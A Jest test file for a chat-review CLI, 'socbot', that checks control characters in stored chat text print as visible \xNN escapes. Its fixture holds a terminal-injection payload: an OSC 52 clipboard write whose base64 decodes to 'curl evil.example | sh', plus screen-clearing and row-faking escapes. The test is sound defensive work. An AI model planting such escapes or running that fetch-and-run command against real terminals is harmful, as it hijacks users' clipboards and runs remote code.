import { cp, mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { openDataStore } from '../../src/store/data-store';
import { runCli } from './run-cli';

const PROJECT_CORPUS = path.resolve(__dirname, '../../corpus');

// What an attacker types into the chat: OSC 52 (write the engineer's clipboard), a CSI that clears
// the screen, the 8-bit CSI (U+009B), DEL, and a line break that fakes an extra row.
const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const HOSTILE = `hi${OSC52} there\u001b[2J\u009b31m\u007f\nID  fake row`;

// eslint-disable-next-line no-control-regex
const ANY_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe('socbot review never writes control characters from chat text to the terminal', () => {
  let dir: string;
  let env: NodeJS.ProcessEnv;
  let id: string;

  beforeEach(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'socbot-review-escapes-'));
    const corpusDir = path.join(dir, 'corpus');
    await cp(PROJECT_CORPUS, corpusDir, { recursive: true });
    env = { SOCBOT_DATA_DIR: path.join(dir, 'data'), SOCBOT_CORPUS: corpusDir };
    const item = await openDataStore(path.join(dir, 'data')).reviews.add({
      text: HOSTILE,
      intentGuess: 'None',
      score: 0.2,
      alternatives: [],
      conversationId: 'c1',
    });
    id = item.id;
  });
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('--list shows them as visible \\xNN', async () => {
    const { code, stdout } = await runCli(['review', '--list'], { env });
    expect(code).toBe(0);
    expect(stdout).not.toMatch(ANY_CONTROL);
    expect(stdout).toContain(
      'hi\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07 there\\x1b[2J\\x9b31m\\x7f\\x0aID  fake row',
    );
    expect(stdout.split('\n').filter((line) => line.includes('fake row'))).toHaveLength(1);
  });

  it('the interactive review and the label message show them as visible \\xNN', async () => {
    const { code, stdout } = await runCli(['review'], { env, stdin: 'inform\n' });
    expect(code).toBe(0);
    expect(stdout).not.toMatch(ANY_CONTROL);
    expect(stdout).toContain('"hi\\x1b]52;c;');
    expect(stdout).toContain('Added "hi\\x1b]52;c;');
  });

  it('--json stays exact JSON of the stored text, with every control character escaped', async () => {
    const { code, stdout } = await runCli(['review', '--list', '--json'], { env });
    expect(code).toBe(0);
    expect(stdout).not.toMatch(ANY_CONTROL);
    expect(JSON.parse(stdout)).toEqual([expect.objectContaining({ id, text: HOSTILE })]);
  });
});
